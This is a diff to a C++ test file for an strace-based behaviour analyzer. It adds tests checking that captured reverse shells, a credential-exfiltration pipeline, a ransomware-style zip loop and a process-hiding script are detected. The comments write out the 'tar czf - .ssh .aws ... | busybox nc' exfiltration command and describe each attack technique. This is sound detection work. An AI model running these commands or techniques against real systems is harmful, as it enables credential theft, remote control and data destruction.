@@ -759,6 +759,10 @@ TEST(EndToEnd, CapturedCasesGetTheirExpectedVerdicts) {
       {"cases/redis_daemon_bind_fail", "INCONCLUSIVE", 3},  // the daemon died at start
       {"cases/node_dep_tamper", "FAIL", 1},
       {"cases/sh_user_unit_persistence", "FAIL", 1},
+      {"cases/sh_reverse_shells", "FAIL", 1},
+      {"cases/sh_tar_nc_exfil", "FAIL", 1},
+      {"cases/sh_ransom_zip_loop", "FAIL", 1},
+      {"cases/sh_proc_hide_mount", "FAIL", 1},
       {"cases/npm_install_local_tarball", "WARN", 0},        // a package's postinstall ran
       {"cases/py_native_ext_undefined_symbol", "INCONCLUSIVE", 3},  // ImportError at start
       {"cases/apache_prefork_clean", "PASS", 0},
@@ -1917,7 +1921,7 @@ TEST(EndToEnd, PoolWorkerReadsTheSecretAndTheParentSendsIt) {
   const std::string log = "py_mp_exfil/strace_log";
   simdjson::dom::element exfil = FindingOf(*j, "secret_read_then_connect");
   EXPECT_EQ(Str(exfil, "observation"),
-            "a connection attempt to 127.0.0.1:8449 by python3 (pid 54) followed the read of "
+            "connect to 127.0.0.1:8449 by python3 (pid 54) after the read of "
             "/home/auditor/.aws/credentials by python3 (pid 59): collection then exfiltration or beaconing");
   EXPECT_TRUE(AnyEvidence(exfil, log, 2088, "<... openat resumed>) = 4</home/auditor/.aws/credentials>"));
   EXPECT_TRUE(AnyEvidence(exfil, log, 2437, "sin_port=htons(8449)"));
@@ -2563,6 +2567,96 @@ TEST(EndToEnd, OrdinaryProgramsAndCaptureVariantsReadRight) {
   r = Cli({"analyze", Case("cases/rust_echo_killed"), "--format", "json"});
   j = ParseJson(r.out);
   EXPECT_EQ(Str(j->root["overview"], "exit_status"), "unknown (trace ended first)");
+}
+
+// Three reverse shells in one script (testdata/cases/sh_reverse_shells, -f -tt -T -yy -s 128):
+// bash's /dev/tcp, a named pipe relayed by busybox nc (no socket reaches the shell) and
+// Python's pty.spawn. The interactive shells are named; busybox nc is a network tool, no shell.
+TEST(EndToEnd, ReverseShellSpellingsIncludingTheFifoRelay) {
+  CliRun r = Cli({"analyze", Case("cases/sh_reverse_shells"), "--format", "json"});
+  ASSERT_EQ(r.code, 1) << r.err;
+  auto j = ParseJson(r.out);
+  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
+                                 {"secret_read_then_connect", 1}, {"socket_as_stdio", 6},
+                                 {"interactive_shell_spawned", 2}, {"shell_spawned", 4},
+                                 {"credential_file_read", 3}, {"network_tool_run", 1},
+                                 {"history_wiped", 1}, {"shell_after_command_received", 2},
+                                 {"child_process_spawned", 17}, {"account_database_read", 10},
+                                 {"write_outside_app", 3}, {"process_forked", 17},
+                                 {"temp_write", 2}, {"loopback_connect", 3}}));
+  const std::string log = "sh_reverse_shells/strace_log";
+  const simdjson::dom::element shell = FindingOf(*j, "interactive_shell_spawned");
+  EXPECT_TRUE(AnyEvidence(shell, log, 274, "execve(\"/usr/bin/bash\", [\"bash\", \"-i\"]"));
+  EXPECT_TRUE(AnyEvidence(shell, log, 1376, "execve(\"/bin/sh\", [\"/bin/sh\", \"-i\"]"));
+  for (simdjson::dom::element e : FindingOf(*j, "shell_spawned")["evidence"].get_array())
+    EXPECT_EQ(Str(e, "text").find("busybox"), std::string::npos) << Str(e, "text");
+  EXPECT_EQ(TableRisk(*j, "backdoor"), "critical");
+}
+
+// `tar czf - .ssh .aws Documents | busybox nc 127.0.0.1 9009` (testdata/cases/sh_tar_nc_exfil):
+// nc connects before tar reads the keys; they leave in nc's writes on that connection.
+TEST(EndToEnd, PipelineSendsSecretsOnAConnectionOpenedBeforeTheRead) {
+  CliRun r = Cli({"analyze", Case("cases/sh_tar_nc_exfil"), "--format", "json"});
+  ASSERT_EQ(r.code, 1) << r.err;
+  auto j = ParseJson(r.out);
+  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"secret_read_then_connect", 1},
+                                                               {"credential_file_read", 3},
+                                                               {"network_tool_run", 1},
+                                                               {"child_process_spawned", 4},
+                                                               {"user_files_archived", 1},
+                                                               {"process_forked", 4},
+                                                               {"loopback_connect", 1}}));
+  const simdjson::dom::element exfil = FindingOf(*j, "secret_read_then_connect");
+  EXPECT_EQ(Str(exfil, "observation"),
+            "write to 127.0.0.1:9009 by busybox (pid 64) after the read of /home/auditor/.aws/credentials "
+            "by tar (pid 63): collection then exfiltration or beaconing");
+  const std::string log = "sh_tar_nc_exfil/strace_log";
+  EXPECT_TRUE(AnyEvidence(exfil, log, 826, "\"credentials\", O_RDONLY"));
+  EXPECT_TRUE(AnyEvidence(exfil, log, 926, "write(3<TCP:[127.0.0.1:45658->127.0.0.1:9009]>"));
+  EXPECT_EQ(TableRisk(*j, "network"), "critical");
+}
+
+// Ransomware as a shell loop (testdata/cases/sh_ransom_zip_loop): a `zip -m -P` per file and
+// one `rm` of the backups; no process removes more than 3 of the user's files, the run 24 (66
+// paths with zip's own archive and temporary file, which the count cannot tell apart).
+TEST(EndToEnd, FilesDestroyedOneProcessPerFileAreMassDestruction) {
+  CliRun r = Cli({"analyze", Case("cases/sh_ransom_zip_loop"), "--format", "json"});
+  ASSERT_EQ(r.code, 1) << r.err;
+  auto j = ParseJson(r.out);
+  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{{"mass_file_destruction", 1},
+                                                               {"child_process_spawned", 25},
+                                                               {"user_files_archived", 21},
+                                                               {"write_outside_app", 130},
+                                                               {"process_forked", 26}}));
+  const simdjson::dom::element wipe = FindingOf(*j, "mass_file_destruction");
+  EXPECT_EQ(Str(wipe, "observation"),
+            "66 of the user's files deleted, renamed or truncated in the run; first: unlink "
+            "/home/auditor/Documents/invoice_01.txt.zip by zip (pid 93)");
+  EXPECT_TRUE(AnyEvidence(wipe, "sh_ransom_zip_loop/strace_log", 547,
+                          "unlink(\"/home/auditor/Documents/invoice_01.txt\")"));
+  EXPECT_EQ(TableRisk(*j, "file"), "critical");
+}
+
+// Defense evasion from a shell script (testdata/cases/sh_proc_hide_mount): a TracerPid check by
+// grep, a helper dropped in /tmp and hidden with a bind mount over its /proc/PID (refused, then
+// done inside unshare -rm), timestomp with touch -r.
+TEST(EndToEnd, ProcessHiddenByAMountOverItsProcEntry) {
+  CliRun r = Cli({"analyze", Case("cases/sh_proc_hide_mount"), "--format", "json"});
+  ASSERT_EQ(r.code, 1) << r.err;
+  auto j = ParseJson(r.out);
+  EXPECT_EQ(FiredCounts(*j), (std::map<std::string, uint64_t>{
+                                 {"process_hidden_by_mount", 2}, {"debugger_check", 1},
+                                 {"exec_from_temp", 1}, {"privilege_escalation_tool", 2},
+                                 {"namespace_change", 1}, {"mount_or_root_change", 3},
+                                 {"shell_spawned", 1}, {"timestomp", 1},
+                                 {"child_process_spawned", 11}, {"process_forked", 10},
+                                 {"temp_write", 2}}));
+  const std::string log = "sh_proc_hide_mount/strace_log";
+  const simdjson::dom::element hide = FindingOf(*j, "process_hidden_by_mount");
+  EXPECT_TRUE(AnyEvidence(hide, log, 823, "mount(\"/tmp/.empty\", \"/proc/47\""));
+  EXPECT_TRUE(AnyEvidence(hide, log, 1136, "MS_BIND, NULL) = 0"));
+  EXPECT_TRUE(AnyEvidence(FindingOf(*j, "debugger_check"), log, 132, "TracerPid"));
+  EXPECT_EQ(TableRisk(*j, "backdoor"), "critical");
 }
 
 }  // namespace rundown
